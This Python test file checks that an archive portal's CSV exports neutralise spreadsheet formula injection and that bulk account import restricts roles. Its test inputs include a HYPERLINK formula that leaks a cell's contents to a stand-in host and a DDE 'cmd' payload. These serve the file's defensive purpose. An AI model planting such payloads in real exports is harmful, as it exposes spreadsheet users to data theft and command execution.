"""Safe exports (issue 10, finding 4): no CSV cell a spreadsheet would run, and a bulk import
that creates lookup accounts only unless other roles are shown and confirmed."""
from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from portal_helpers import login
from sqlalchemy import select

from archive_core.cells import csv_writer, safe_cell
from archive_core.db.models import Account, AuditEvent
from archive_portal.cli import main as cli
from ingest.handover import HandoverRecord, to_csv

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&H2,\"bấm\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def runs(cell: str) -> bool:
    """Whether Excel/LibreOffice would read the cell as a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised_and_the_text_kept(value):
    out = io.StringIO()
    csv_writer(out).writerow([value, 42, -7, "Nguyễn Văn A", ""])
    [cells] = rows_of(out.getvalue())
    assert not runs(cells[0]) and cells[0] == "'" + value
    assert cells[1:] == ["42", "-7", "Nguyễn Văn A", ""]  # numbers and ordinary text unchanged
    assert safe_cell(3.5) == 3.5


def test_a_failed_sign_in_cannot_plant_a_formula_in_the_audit_csv(app, as_admin):
    for name in HOSTILE[:4]:
        assert login(app.test_client(), name, "sai-mat-khau").status_code == 401
    text = as_admin.get("/nhat-ky/csv?action=login_failed").get_data(as_text=True)
    header, *rows = rows_of(text)
    names = {row[header.index("tai_khoan")] for row in rows}
    assert any(n.lower().startswith("'=hyperlink") for n in names)  # kept, as text
    assert not any(runs(cell) for row in rows for cell in row)


def test_the_handover_csv_neutralises_names_from_the_package():
    record = HandoverRecord(title="t", unit_code="11950", unit_name="Phường Lam Sơn", files=[
        {"package": 1, "kind": "payload", "path": "data/files/=cmd|' /C calc'!A0.pdf", "sha256": "a" * 64, "size": 10,
         "outcome": "indexed", "reason": "@lý do", "ma_van_ban": "-VB-1"},
    ])
    rows = rows_of(to_csv(record))
    assert not any(runs(cell) for row in rows for cell in row)
    assert rows[1][2] == "data/files/=cmd|' /C calc'!A0.pdf"  # harmless where it is: unchanged
    assert (rows[1][6], rows[1][7]) == ("'@lý do", "'-VB-1")


def _env(world) -> dict[str, str]:
    return {"ARCHIVE_HOME": str(world.archive.settings.home), "ARCHIVE_DATABASE_URL": world.archive.settings.database_url}


def test_the_import_creates_lookup_accounts_only_and_names_the_roles(world, tmp_path):
    listing = tmp_path / "can-bo.csv"
    listing.write_text("Họ và tên;Tên đăng nhập;Đơn vị mới;Email;Vai trò\n"
                       "=1+1;nk.mot;11953;@evil.example;\n"
                       "Trần Hai;nk.hai;11953;;quản trị\n"
                       "Lê Ba;nk.ba;11953;;lưu trữ viên\n", encoding="utf-8-sig")
    out = tmp_path / "mat-khau.csv"
    result = CliRunner().invoke(cli, ["accounts", "import", str(listing), "-o", str(out)], env=_env(world))
    assert result.exit_code == 1  # two rows refused
    rows = rows_of(out.read_text(encoding="utf-8"))
    assert rows[0][3] == "Vai trò"
    assert not any(runs(cell) for row in rows for cell in row)
    by_name = {row[2]: row for row in rows[1:]}
    assert by_name["nk.mot"][1] == "'=1+1" and by_name["nk.mot"][3] == "Tra cứu"
    assert "Đã tạo" in by_name["nk.mot"][-1]
    assert by_name["nk.hai"][3] == "Quản trị" and "Không tạo" in by_name["nk.hai"][-1]
    with world.archive.db.session() as s:
        made = {a.username: a.role for a in s.scalars(select(Account).where(Account.username.like("nk.%")))}
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "account_bulk_create")
                          .order_by(AuditEvent.id.desc())).first()
    assert made == {"nk.mot": "lookup"}
    assert event.details["roles"] == {"nk.mot": "lookup"}


def test_other_roles_only_through_the_separate_path_that_shows_them_first(world, tmp_path):
    listing = tmp_path / "can-bo.csv"
    listing.write_text("Tên đăng nhập;Đơn vị mới;Vai trò\nvt.mot;11953;\nvt.hai;;quản trị\n", encoding="utf-8-sig")
    declined = CliRunner().invoke(cli, ["accounts", "import", str(listing), "--with-roles"], env=_env(world), input="n\n")
    assert declined.exit_code != 0 and "vt.hai" in declined.output and "Quản trị" in declined.output
    with world.archive.db.session() as s:
        assert s.scalar(select(Account).where(Account.username.in_(["vt.mot", "vt.hai"]))) is None
    accepted = CliRunner().invoke(cli, ["accounts", "import", str(listing), "--with-roles"], env=_env(world), input="y\n")
    assert accepted.exit_code == 0, accepted.output
    with world.archive.db.session() as s:
        made = {a.username: a.role for a in s.scalars(select(Account).where(Account.username.like("vt.%")))}
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "account_bulk_create")
                          .order_by(AuditEvent.id.desc())).first()
    assert made == {"vt.mot": "lookup", "vt.hai": "admin"}
    assert event.details["roles"] == {"vt.mot": "lookup", "vt.hai": "admin"}


def test_the_portal_import_refuses_other_roles_and_shows_the_role(app, as_admin, world):
    from portal_helpers import csrf_token

    data = "Tên đăng nhập;Đơn vị mới;Vai trò\nweb.mot;11953;\nweb.hai;11953;quản trị\n".encode("utf-8-sig")
    token = csrf_token(as_admin.get("/quan-tri/tai-khoan/nhap").get_data(as_text=True))
    r = as_admin.post("/quan-tri/tai-khoan/nhap", data={"file": (io.BytesIO(data), "ds.csv"), "output": "html",
                                                        "csrf_token": token}, content_type="multipart/form-data")
    html = r.get_data(as_text=True)
    assert "Đã tạo 1/2" in html and "Tra cứu" in html and "cần bước xác nhận riêng" in html
    with world.archive.db.session() as s:
        assert s.scalar(select(Account.role).where(Account.username == "web.hai")) is None
